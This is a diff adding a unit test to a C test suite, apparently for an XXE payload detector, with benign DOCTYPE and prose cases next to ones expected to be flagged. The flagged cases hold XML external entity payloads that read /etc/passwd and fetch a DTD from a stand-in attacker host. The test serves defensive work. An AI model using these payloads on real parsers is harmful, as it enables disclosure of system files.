@@ -333,6 +333,28 @@ static void test_url_query_in_value(void **st)
 	rt_run("url-query", t, sizeof(t) / sizeof(t[0]));
 }
 
+/* documents and prose a page or a forum post carries (reviewer D): the
+ * XHTML 1.0 specification's own DOCTYPE with its relative system literal,
+ * the W3C's copy without www or scheme, HTML5's legacy-compat doctype, a
+ * sentence naming a declaration; the XXE forms beside them still count */
+static void test_xxe_pages(void **st)
+{
+	(void)st;
+	static const struct rtcase t[] = {
+		{"<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"DTD/xhtml1-strict.dtd\">", N},
+		{"<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.1//EN\" \"http://w3.org/TR/xhtml11/DTD/xhtml11.dtd\"><html/>", N},
+		{"<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.1//EN\" \"//www.w3.org/TR/xhtml11/DTD/xhtml11.dtd\">", N},
+		{"<!DOCTYPE html SYSTEM \"about:legacy-compat\"><html><body>hi</body></html>", N},
+		{"In a DTD you declare an element with <!ELEMENT note (to,from,body)> and more.", N},
+		{"<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://evil.example/x.dtd\">", PAYLOAD_XXE},
+		{"<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"../../../etc/passwd\">", PAYLOAD_XXE},
+		{"<!DOCTYPE foo SYSTEM \"http://evil.example/x.dtd\"><foo/>", PAYLOAD_XXE},
+		{"<!ELEMENT foo ANY >", PAYLOAD_XXE},
+		{"<!DOCTYPE foo [<!ELEMENT foo ANY ><!ENTITY xxe SYSTEM \"file:///etc/passwd\" >]>", PAYLOAD_XXE},
+	};
+	rt_run("xxe-pages", t, sizeof(t) / sizeof(t[0]));
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -346,6 +368,7 @@ int main(void)
 		cmocka_unit_test(test_data_forms),
 		cmocka_unit_test(test_quoted_marks),
 		cmocka_unit_test(test_url_query_in_value),
+		cmocka_unit_test(test_xxe_pages),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
